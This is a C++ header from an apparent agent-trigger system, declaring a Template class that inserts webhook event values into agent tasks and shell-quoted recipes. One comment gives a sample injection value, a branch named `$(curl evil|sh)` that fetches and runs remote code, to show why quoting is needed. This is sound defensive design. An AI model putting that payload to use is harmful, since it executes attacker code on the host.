#pragma once

// Templates over a trigger's event: an agent's task or recipe with `{{event.branch}}`,
// `{{event.comment.body}}` … in it (docs/triggers.md).
//
// A template is checked when the agent's definition is loaded: every field it names must be one
// the event type documents, so a typo is an error at load rather than an empty string at fire.
// Rendering inserts the event's values — hostile data, from a webhook's body — as text into a
// task, and shell-quoted into a recipe, so a branch named `$(curl evil|sh)` stays a string.

#include <map>
#include <string>
#include <string_view>
#include <vector>

#include "core/status.h"

namespace nightshift::triggers {

// How values are inserted: as they are (a task, read by the model), or each as one shell word
// in single quotes (a recipe, run by `sh -c`).
enum class Quoting { kNone, kShell };

class Template {
 public:
  // `text` with `{{event.NAME}}` placeholders (blanks inside the braces allowed; `{{{{` is a
  // literal "{{"), where each NAME is in `fields`. `what` names the template in errors
  // ("agent ci-fixer: task"). InvalidArgument for an unknown field, an unclosed or empty
  // placeholder, or one that does not start with "event.".
  static StatusOr<Template> Parse(std::string_view text, const std::vector<std::string>& fields,
                                  std::string_view what);

  // The text with each placeholder replaced by its value in `values` (keyed by NAME, without
  // "event."), shell-quoted by core/shell.h's ShellQuote for kShell. FailedPrecondition if a
  // value is missing (the event lacks a documented field), or, for kShell, holds a NUL byte,
  // which no shell command can carry.
  StatusOr<std::string> Render(const std::map<std::string, std::string>& values,
                               Quoting quoting) const;

  // The fields it uses, in order of first use.
  const std::vector<std::string>& fields() const { return fields_; }

 private:
  struct Piece {
    bool is_field;
    std::string text;  // literal text, or the field's NAME
  };
  std::vector<Piece> pieces_;
  std::vector<std::string> fields_;
};

}  // namespace nightshift::triggers
